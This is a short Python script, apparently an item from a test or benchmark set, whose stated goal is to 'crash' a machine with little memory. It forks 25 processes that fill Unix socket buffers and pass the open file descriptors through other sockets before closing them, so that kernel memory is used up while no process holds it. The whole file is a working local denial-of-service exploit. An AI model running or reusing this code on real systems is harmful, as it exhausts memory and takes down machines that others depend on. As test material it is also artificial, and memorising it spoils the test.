"""Sends full sockets through other sockets and closes them, so that no process has open what fills the memory."""

wins = "crash"
elsewhere = "a machine with little memory"

# %% after show
import os, socket, time


def hide(into):
    mine, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    mine.setblocking(False)
    try:
        while True:
            mine.send(b"x" * 2**15)
    except BlockingIOError:
        pass
    socket.send_fds(into, [b"x"], [mine.fileno(), other.fileno()])
    mine.close()
    other.close()


for _ in range(25):
    if os.fork() == 0:
        kept = [socket.socketpair() for _ in range(8)]
        try:
            while True:
                for into, _ in kept:
                    into.setblocking(False)
                    hide(into)
        except OSError:
            time.sleep(30)
        os._exit(0)
time.sleep(6)
